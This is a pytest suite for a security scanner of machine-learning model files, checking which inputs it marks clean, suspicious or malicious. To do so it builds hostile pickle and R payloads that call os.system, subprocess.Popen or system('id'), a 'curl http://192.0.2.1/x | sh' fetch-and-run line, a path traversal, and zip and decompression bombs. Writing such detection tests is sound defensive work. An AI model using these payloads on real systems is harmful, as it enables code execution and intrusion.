"""What is left over when something breaks off or nobody came for it: cut pickles, arguments that wait in R, padding."""

from __future__ import annotations

import gzip
import json
import lzma
import pickle
import struct
import time
import zipfile
import zlib

import pytest

from upright.discover.model_file import inspect
from upright.discover.readers.blob import Blob
from upright.discover.readers.inquiry import Budget, Inquiry, Verdict
from upright.discover.readers.model_format import look
from upright.model.item import Item
from upright.testing.hostile_containers import zipped
from upright.testing.hostile_pickles import PAYLOAD

NIL, UNBOUND, GLOBAL, BASE_NAMESPACE = 254, 252, 253, 250


def judged(content: bytes, path: str = "weights.bin") -> str:
    return inspect(Item("test", path, len(content), content=content)).verdict


def number(value: int) -> bytes:
    return struct.pack(">i", value)


def symbol(name: bytes) -> bytes:
    return number(1) + number(0x40009) + number(len(name)) + name


def text(value: bytes) -> bytes:
    return number(16) + number(1) + number(0x40009) + number(len(value)) + value


def call(function: bytes, *arguments: bytes) -> bytes:
    return number(6) + symbol(function) + b"".join(number(2) + each for each in arguments) + number(NIL)


def promise(expression: bytes, value: bytes = number(UNBOUND)) -> bytes:
    return number(5 | 0x400) + number(GLOBAL) + value + expression


def values(*items: bytes) -> bytes:
    return number(19) + number(len(items)) + b"".join(items)


def environment(variable: bytes) -> bytes:
    frame = number(2 | 0x400) + symbol(b"x") + variable + number(NIL)
    return number(4) + number(0) + number(GLOBAL) + frame + number(NIL) + number(NIL)


def stream(value: bytes) -> bytes:
    head = b"X\n" + number(3) + number(0x040400) + number(0x030500) + number(5) + b"UTF-8"
    return gzip.compress(head + value, mtime=0)


@pytest.mark.parametrize(
    ("value", "verdict"),
    [
        (environment(promise(call(b"match.arg", text(b"type")))), "clean"),
        (environment(promise(call(b"eval", symbol(b"frame")))), "clean"),
        (environment(promise(call(b"system", text(b"id")), text(b"what it gave"))), "suspicious"),
        (environment(promise(call(b"system2", text(b"id")))), "malicious"),
        (environment(promise(call(b"do.call", text(b"system"), text(b"id")))), "malicious"),
        (environment(promise(call(b"eval", call(b"parse", text(b"1"))))), "malicious"),
        (values(promise(call(b"system", text(b"id")))), "malicious"),
        (values(promise(call(b"match.arg", text(b"type")))), "suspicious"),
        (values(number(BASE_NAMESPACE), text(b"a")), "clean"),
    ],
)
def test_arguments_that_wait_in_an_environment_are_everyday_in_r(value: bytes, verdict: str) -> None:
    assert judged(stream(value), "model.rds") == verdict


@pytest.mark.parametrize(
    ("content", "verdict"),
    [
        (b"cos\nsystem\n(V", "suspicious"),
        (b"cbuiltins\neval\n", "suspicious"),
        (b"(lp0\ncsubprocess\nPopen\np1\n", "suspicious"),
        (b"(dp0\nVk\np1\nc__builtin__\nexec\np2\n(Vprint(1)\n", "suspicious"),
        (b"\x80\x02]q\x00cposix\nsystem\n", "suspicious"),
        (b"cos\nsin\n", "unknown"),
        (b"cat\ndog\n(fish\n", "unknown"),
        (b"cos\nsystem\nthe\nof\n", "unknown"),
    ],
)
def test_a_pickle_cut_off_behind_what_does_harm(content: bytes, verdict: str) -> None:
    assert judged(content) == verdict


def test_streams_of_xz_may_be_filled_up() -> None:
    assert (
        judged(lzma.compress(pickle.dumps({"w": [1.5]})) + bytes(8) + lzma.compress(PAYLOAD), "m.pkl.xz") == "malicious"
    )


@pytest.mark.parametrize(
    ("function", "verdict"),
    [("java.lang.Runtime.exec", "suspicious"), ("com.shop.Rank", "unknown"), ("normalCDF", "clean")],
)
def test_pmml_may_call_a_class_of_java(function: str, verdict: str) -> None:
    apply = (
        f'<DerivedField name="a" dataType="double" optype="continuous"><Apply function="{function}"/></DerivedField>'
    )
    model = f'<PMML version="4.4"><Header/><TransformationDictionary>{apply}</TransformationDictionary></PMML>'
    assert judged(model.encode(), "m.pmml") == verdict


def test_a_program_of_every_system_that_carries_a_model() -> None:
    carries = b"MZqFpD='\n" + bytes(500) + b"%s" + b"GGUF\3\0\0\0" + bytes(16)
    assert judged(carries % b"", "chat.exe") == "unknown"
    assert judged(carries.replace(b"\n", b"\ncurl http://192.0.2.1/x | sh\n", 1) % b"", "chat.exe") == "suspicious"


@pytest.mark.parametrize(("name", "verdict"), [(b"os.system", "suspicious"), (b"os.path", "unknown")])
def test_dill_gives_what_is_no_module_too(name: bytes, verdict: str) -> None:
    imported = b"\x8c\x0adill._dill\x8c\x0e_import_module\x93\x8c" + bytes([len(name)]) + name + b"\x85R"
    assert (judged(b"\x80\x04" + imported + b".") == "suspicious") == (verdict == "suspicious")


@pytest.mark.parametrize(
    ("name", "verdict"),
    [
        (b"os.stat_result", "clean"),
        (b"subprocess.CalledProcessError", "clean"),
        (b"shutil.Error", "clean"),
        (b"re.error", "clean"),
        (b"ftplib.error_perm", "clean"),
        (b"torch.fx.immutable_collections.immutable_dict", "clean"),
        (b"subprocess.Popen", "malicious"),
        (b"somewhere.LoadError", "unknown"),
    ],
)
def test_what_only_tells_does_no_harm(name: bytes, verdict: str) -> None:
    module, _, last = name.rpartition(b".")
    assert judged(b"c" + module + b"\n" + last + b"\n(I1\ntR.") == verdict


@pytest.mark.parametrize(("module", "verdict"), [(b"rankings.losses", "unknown"), (b"os", "suspicious")])
def test_what_a_library_holds_is_no_way_to_a_command(module: bytes, verdict: str) -> None:
    """Dill hands a function of an installed module what that module holds."""
    made = b"cdill._dill\n_create_type\n(cbuiltins\ntype\nX\x01\x00\x00\x00A(t}tR"
    given = b"ccollections\nOrderedDict\n)R}X\x01\x00\x00\x00gc" + module + b"\n__dict__\nsb"
    assert judged(b"\x80\x02" + made + given + b"\x86.") == verdict


def test_opcodes_without_end_out_of_few_bytes_are_a_bomb() -> None:
    machine = zlib.compressobj(1)
    packed = machine.compress(b"\x80\x04")
    packed += b"".join(machine.compress(b"N0" * 1_000_000) for _ in range(40)) + machine.compress(b"N.")
    inquiry = Inquiry("", look, budget=Budget(operations=100_000))
    look(Blob(packed + machine.flush()), inquiry)
    assert inquiry.verdict is Verdict.SUSPICIOUS
    assert {"bomb", "budget"} <= {each.code for each in inquiry.reasons}


@pytest.mark.parametrize(("depth", "verdict"), [(3, "clean"), (3000, "suspicious")])
def test_the_header_of_an_array_nests_no_deeper_than_records(depth: int, verdict: str) -> None:
    record = "'<f8'"
    for _ in range(depth):
        record = f"[('a', {record})]"
    header = f"{{'descr': {record}, 'fortran_order': False, 'shape': (1,), }}\n".encode()
    raw = b"\x93NUMPY\2\0" + struct.pack("<I", len(header)) + header + bytes(8)
    assert judged(raw, "a.npy") == verdict


def test_elements_of_an_array_are_no_longer_than_the_file() -> None:
    for width, verdict in ((b"2", "clean"), (b"1000000000", "suspicious")):
        header = b"{'descr': '<U%s', 'fortran_order': False, 'shape': (2,), }\n" % width
        assert judged(b"\x93NUMPY\2\0" + struct.pack("<I", len(header)) + header + bytes(16), "a.npy") == verdict


def test_what_stands_after_an_array_is_looked_into() -> None:
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\2\0" + struct.pack("<I", len(header)) + header + bytes(8)
    assert judged(array + b"\1" * 40, "a.npy") == "unknown"
    assert judged(array + zipped({"a": b"b"}), "a.npy") == "suspicious"


def test_a_node_of_skops_reads_no_file_outside() -> None:
    node = {"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy"}
    for file, verdict in (("a.npy", "clean"), ("../../a.npy", "suspicious")):
        assert judged(zipped({"schema.json": json.dumps(node | {"file": file}).encode()}), "m.skops") == verdict


@pytest.mark.parametrize("name", ["model.safetensors", "model.onnx", "model.pt"])
def test_a_pointer_of_git_lfs_is_told_as_one(name: str) -> None:
    raw = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"4d" * 32 + b"\nsize 12345\n"
    found = inspect(Item("test", name, len(raw), content=raw))
    assert (found.verdict, [each.code for each in found.reasons]) == ("unknown", ["pointer"])


@pytest.mark.parametrize(("size", "verdict"), [(1 << 10, "clean"), (1 << 50, "suspicious")])
def test_a_shape_asks_for_no_more_memory_than_a_file_could_fill(size: int, verdict: str) -> None:
    space, kind = struct.pack("<4BQ", 2, 1, 0, 1, size), struct.pack("<4BI", 0x11, 0x20, 0x3F, 0, 4) + bytes(12)
    layout = struct.pack("<2BQQ", 3, 1, (1 << 64) - 1, 0)
    body = b"".join(struct.pack("<BHB", each, len(raw), 0) + raw for each, raw in ((1, space), (3, kind), (8, layout)))
    header = b"OHDR\2\2" + struct.pack("<I", len(body)) + body + bytes(4)
    root = struct.pack("<QQQQ", 0, (1 << 64) - 1, 48 + len(header), 48)
    assert judged(b"\x89HDF\r\n\x1a\n\2\x08\x08\0" + root + bytes(4) + header, "m.weights.h5") == verdict


@pytest.mark.parametrize(("leaves", "verdict"), [(2, "clean"), (999_999_999_999, "suspicious")])
def test_trees_have_no_more_leaves_than_the_file_has_bytes(leaves: int, verdict: str) -> None:
    model = f"tree\nversion=v4\nnum_class=1\n\nTree=0\nnum_leaves={leaves}\nleaf_value=1 2\n\nend of trees\n"
    assert judged(model.encode(), "m.txt") == verdict


def test_no_dimension_of_a_tensor_is_beyond_what_is_counted() -> None:
    def tensor(*sizes: int) -> bytes:
        name = struct.pack("<Q", 1) + b"t"
        held = (
            b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + name + struct.pack(f"<I{len(sizes)}QIQ", len(sizes), *sizes, 0, 0)
        )
        return held + bytes(-len(held) % 32 + 32)

    assert judged(tensor(8), "m.gguf") == "clean"
    assert judged(tensor(0, 1 << 63), "m.gguf") == "suspicious"


@pytest.mark.parametrize(("size", "verdict"), [(34 << 20, "unknown"), (1 << 20, "suspicious")])
def test_a_header_is_not_longer_than_what_it_tells_of(size: int, verdict: str) -> None:
    header = b'{"__metadata__":{"a":"' + b"A" * (33 << 20) + b'"}}'
    assert judged(struct.pack("<Q", len(header)) + header + bytes(size), "m.safetensors") == verdict


def test_one_bomb_that_a_directory_lists_many_times_is_not_unpacked_each_time() -> None:
    zeros = bytes(65 << 20)
    once = zipped({"m": zeros}, zipfile.ZIP_DEFLATED)
    entry, end = once.index(b"PK\1\2"), once.index(b"PK\5\6")
    many = once[:entry] + once[entry:end] * 200
    many += struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 200, 200, 200 * (end - entry), entry, 0)
    begun = time.process_time()
    assert judged(many) == "suspicious"
    assert time.process_time() - begun < 5


def test_bombs_in_archives_end_where_they_are_hundreds_of_times_the_file() -> None:
    inner = zipped({"m": bytes(48 << 20)}, zipfile.ZIP_DEFLATED)
    outer = zipped({f"{number}.npz": inner for number in range(40)}, zipfile.ZIP_DEFLATED)
    report = inspect(Item("test", "m.zip", len(outer), content=outer))
    assert (report.verdict, {"bomb", "budget"} - {each.code for each in report.reasons}) == ("suspicious", set())


def test_archives_deeper_than_any_model_hide_something() -> None:
    content = b"weights"
    for _ in range(3):
        content = zipped({"model.zip": content})
    assert judged(content, "model.zip") != "suspicious"
    for _ in range(20):
        content = zipped({"model.zip": content})
    assert judged(content, "model.zip") == "suspicious"


@pytest.mark.parametrize(("text", "verdict"), [("nearest", "unknown"), ("touch /tmp/x", "suspicious")])
def test_a_command_for_an_operator_that_nobody_knows(text: str, verdict: str) -> None:
    code = f'def forward(self: __torch__.M, x: Tensor) -> Tensor:\n  _0 = ops.other.apply(x, "{text}")\n  return x\n'
    data = {"m/version": b"6\n", "m/data.pkl": b"\x80\x02}.", "m/constants.pkl": b"\x80\x02)."}
    members = {**data, "m/code/__torch__.py": code.encode()}
    assert judged(zipped(members), "m.pt") == verdict
